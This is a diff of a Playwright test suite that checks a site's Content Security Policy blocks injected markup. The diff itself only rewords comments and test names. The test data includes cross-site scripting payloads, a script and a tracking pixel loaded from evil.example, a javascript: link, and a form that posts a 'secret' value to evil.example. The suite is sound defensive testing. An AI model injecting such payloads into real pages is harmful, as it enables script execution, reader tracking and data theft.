@@ -1,7 +1,7 @@
 import { createServer } from 'node:http';
 import { expect, test, type Page } from '@playwright/test';
 
-/** Markup that would run, load or send something, if it ever came into a page. */
+/** Markup that would run, load or send something if it ever got into a page. */
 const INTRUDERS = [
   ['a script', '<script>taken = "script"</script>', 'script-src-elem'],
   ['a script of another host', '<script src="https://evil.example/a.js"></script>', 'script-src-elem'],
@@ -11,12 +11,12 @@ const INTRUDERS = [
     'script-src-elem',
   ],
   ['a handler', '<img src="/favicon.svg" onload="taken = 1">', 'script-src-attr'],
-  ['a handler of a drawing', '<svg onload="taken = 1"></svg>', 'script-src-attr'],
+  ['a handler on a drawing', '<svg onload="taken = 1"></svg>', 'script-src-attr'],
   ['a frame of another host', '<iframe src="https://evil.example/"></iframe>', 'frame-src'],
   ['an object', '<object data="https://evil.example/a.svg"></object>', 'object-src'],
-  ['a picture of another host, which would tell who reads', '<img src="https://evil.example/pixel.png">', 'img-src'],
+  ['a picture of another host, which would reveal who reads', '<img src="https://evil.example/pixel.png">', 'img-src'],
   ['a style', '<style>body { display: none }</style>', 'style-src-elem'],
-  ['a style of an element', '<p style="background: url(https://evil.example/)">x</p>', 'style-src-attr'],
+  ['a style on an element', '<p style="background: url(https://evil.example/)">x</p>', 'style-src-attr'],
   ['a style sheet of another host', '<link rel="stylesheet" href="https://evil.example/a.css">', 'style-src-elem'],
   ['a font', '<style>@font-face { font-family: x; src: url(https://evil.example/a) }</style>', 'style-src-elem'],
   ['another base of all links', '<base href="https://evil.example/">', 'base-uri'],
@@ -29,14 +29,14 @@ for (const [what, markup, directive] of INTRUDERS)
     expect(await taken(page)).toBeUndefined();
   });
 
-test('a link that would run a script runs none', async ({ page }) => {
+test('a link that would run a script does not run it', async ({ page }) => {
   await withMarkup(page, '<a id="intruder" href="javascript:globalThis.taken=1">x</a>');
   await page.locator('#intruder').evaluate((link) => (link as HTMLAnchorElement).click());
   await expect.poll(() => violations(page)).toContain('script-src-elem');
   expect(await taken(page)).toBeUndefined();
 });
 
-test('a form that would send words to another host sends none', async ({ page }) => {
+test('a form that would send words to another host does not send them', async ({ page }) => {
   await withMarkup(
     page,
     '<form id="intruder" action="https://evil.example/"><input name="word" value="secret"></form>',
@@ -48,14 +48,14 @@ test('a form that would send words to another host sends none', async ({ page })
 
 for (const [what, script] of [
   ['markup', 'document.body.innerHTML = "<b>x</b>"'],
-  ['markup beside an element', 'document.body.insertAdjacentHTML("beforeend", "<b>x</b>")'],
+  ['markup inserted beside an element', 'document.body.insertAdjacentHTML("beforeend", "<b>x</b>")'],
   ['another page', 'new DOMParser().parseFromString("<b>x</b>", "text/html")'],
   ['code', 'new Function("taken = 1")()'],
-  ['code that waits', 'setTimeout("taken = 1", 0)'],
+  ['delayed code', 'setTimeout("taken = 1", 0)'],
   ['the address of a script', 'document.createElement("script").src = "/search/client.js"'],
-  ['a rule of its own for all this', 'trustedTypes.createPolicy("other", { createHTML: (html) => html })'],
+  ['a policy of its own', 'trustedTypes.createPolicy("other", { createHTML: (html) => html })'],
 ] as const)
-  test(`even a script of this site makes no ${what} of text`, async ({ page }) => {
+  test(`even a script of this site cannot turn text into ${what}`, async ({ page }) => {
     await page.route('**/_assets/*.js', (route) =>
       route.fulfill({
         contentType: 'text/javascript',
@@ -69,7 +69,7 @@ for (const [what, script] of [
     expect(await taken(page)).toBeUndefined();
   });
 
-test('no other site shows a page of this one in a frame', async ({ page, baseURL }) => {
+test('no other site can show a page of this one in a frame', async ({ page, baseURL }) => {
   const told: string[] = [];
   page.on('console', (message) => told.push(message.text()));
   const other = createServer((_, response) =>
@@ -90,7 +90,7 @@ test('no other site shows a page of this one in a frame', async ({ page, baseURL
 
 test.use({ baseURL: process.env['LIBRARY_ADDRESS'] ?? '' });
 
-/** Opens a page into which somebody has brought markup, and notes what its policy refuses. */
+/** Opens a page with injected markup, and records what its policy refuses. */
 async function withMarkup(page: Page, markup: string): Promise<void> {
   await page.addInitScript(() => {
     Reflect.set(globalThis, 'violations', []);
